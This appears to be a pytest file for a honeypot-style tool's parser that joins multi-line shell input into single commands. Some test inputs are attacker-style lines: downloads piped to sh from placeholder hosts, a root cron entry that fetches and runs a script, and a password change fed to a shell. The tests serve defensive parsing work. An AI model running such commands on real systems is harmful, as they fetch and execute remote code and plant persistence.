"""Lines that the shell took as one command."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.shell.joining import MAX_CHARS, MAX_LINES, Joined, joined


@pytest.mark.parametrize(
    ("lines", "wanted"),
    [
        (["id", "w"], []),
        (["echo -e 'admin", "Qx7", "Qx7'|passwd|sh;", "id"], [(0, 2, "echo -e 'admin\nQx7\nQx7'|passwd|sh;")]),
        (["wget \\", "  http://203.0.113.9/z.sh"], [(0, 1, "wget   http://203.0.113.9/z.sh")]),
        (["a \\\\", "b"], []),
        (["a \\\\\\", "b"], [(0, 1, "a \\\\b")]),
        (["echo 'it \\", "x'"], [(0, 1, "echo 'it \\\nx'")]),
        (['echo "a \\', 'b"'], [(0, 1, 'echo "a b"')]),
        (['echo "a \\" b', 'c"'], [(0, 1, 'echo "a \\" b\nc"')]),
        (["cat > /x <<EOF", "* * * * * root curl http://x|sh", "EOF", "ls"], [(0, 2, "cat > /x <<EOF\n* * * * * root curl http://x|sh\nEOF")]),
        (["cat <<-'E O'", "it's", "\tE O"], [(0, 2, "cat <<-'E O'\nit's\n\tE O")]),
        (['cat <<"A" <<B', "1", "A", "2", "B"], [(0, 4, 'cat <<"A" <<B\n1\nA\n2\nB')]),
        (["cat <<< EOF", "id"], []),
        (["echo it's", "id", "w"], []),
        (["echo it's", "echo it's", "id"], [(0, 1, "echo it's\necho it's")]),
        (["ls # don't", "id"], []),
        (["echo a#'b", "c'"], [(0, 1, "echo a#'b\nc'")]),
        (["cat <<EOF", "never closed"], []),
        (["echo \\'", "id"], []),
        (["", "'", "'"], [(1, 2, "'\n'")]),
        (["for i in 1 2", "do", "wget http://h/$i", "done", "id"], [(0, 3, "for i in 1 2\ndo\nwget http://h/$i\ndone")]),
        (["for i in 1; do echo $i; done", "id"], []),
        (["while read l; do", "  if [ -f $l ]; then", "    rm $l", "  fi", "done < /x"], [(0, 4, "while read l; do\n  if [ -f $l ]; then\n    rm $l\n  fi\ndone < /x")]),
        (["if true; then id; fi", "w"], []),
        (["if [ -x /a ]", "then /a", "else", "/b", "fi; w", "id"], [(0, 4, "if [ -x /a ]\nthen /a\nelse\n/b\nfi; w")]),
        (["until id; do", "sleep 1;done"], [(0, 1, "until id; do\nsleep 1;done")]),
        (["case $a in", "x) id;;", "(y) w;;", "esac"], [(0, 3, "case $a in\nx) id;;\n(y) w;;\nesac")]),
        (["case $a in x) id;; esac", "w"], []),
        (["{", "id", "}"], [(0, 2, "{\nid\n}")]),
        (["echo {a,b} }", "id"], []),
        (["f() {", "id", "}", "f"], [(0, 2, "f() {\nid\n}")]),
        (["f() { id; }", "f"], []),
        (["(cd /tmp", "id)"], [(0, 1, "(cd /tmp\nid)")]),
        (["echo $(cat /a", "/b)", "w"], [(0, 1, "echo $(cat /a\n/b)")]),
        (["echo $((1+2)) $(id) `w` ${a} $#", "id"], []),
        (["a=`cat", "/x`"], [(0, 1, "a=`cat\n/x`")]),
        (["wget http://h/a &&", "sh a"], [(0, 1, "wget http://h/a &&\nsh a")]),
        (["curl http://h/a |", "", "sh"], [(0, 2, "curl http://h/a |\n\nsh")]),
        (["a ||", "b |", "c"], [(0, 2, "a ||\nb |\nc")]),
        (["sleep 9 &", "id;", "w"], []),
        (["echo if for while {", "id", "fi done }"], []),
        (["echo 'if'; 'for'", "fi", "done"], []),
        (["if", "id", "w"], []),
        (["echo if", "id", "fi"], []),
        (["done", "fi", "}", ")", "id"], []),
        (["wget http://h/x?a=1&b=(2)", "id"], []),
        (["if true; then cat <<E", "fi", "E", "fi", "id"], [(0, 3, "if true; then cat <<E\nfi\nE\nfi")]),
        (["cat <<E\nit's\nE", "id"], []),
        (["for i in a; do\necho $i\ndone", "id"], []),
        (["echo done | while read x", "do id", "done"], [(0, 2, "echo done | while read x\ndo id\ndone")]),
        (["I'm here for you", "if you", "are"], []),
        (["a |"], []),
    ],
)  # fmt: skip
def test_what_belongs_together(lines: list[str], wanted: list[tuple[int, int, str]]) -> None:
    assert joined(lines) == [Joined(*one) for one in wanted]


def test_a_command_is_joined_up_to_the_limit_of_lines_and_of_text() -> None:
    for count, found in ((MAX_LINES, 1), (MAX_LINES + 1, 0)):
        assert len(joined(["cat <<EOF", *(["x"] * (count - 2)), "EOF"])) == found
    for size, found in ((MAX_CHARS - 1, 1), (MAX_CHARS + 1, 0)):
        assert len(joined(["'" + "x" * (size - 1), "'"])) == found


@given(st.lists(st.text("'\"\\<-EOF #;\n\tab$(){}`&|", max_size=8), max_size=12))
def test_never_raises_and_groups_stand_in_order_without_overlap(lines: list[str]) -> None:
    found = joined(lines)
    assert all(one.first < one.last < len(lines) for one in found)
    assert all(a.last < b.first for a, b in pairwise(found))


def test_a_long_session_of_open_quotes_takes_linear_time() -> None:
    lines = ["echo it's"] + ["echo x"] * 100_000
    assert joined(lines) == []
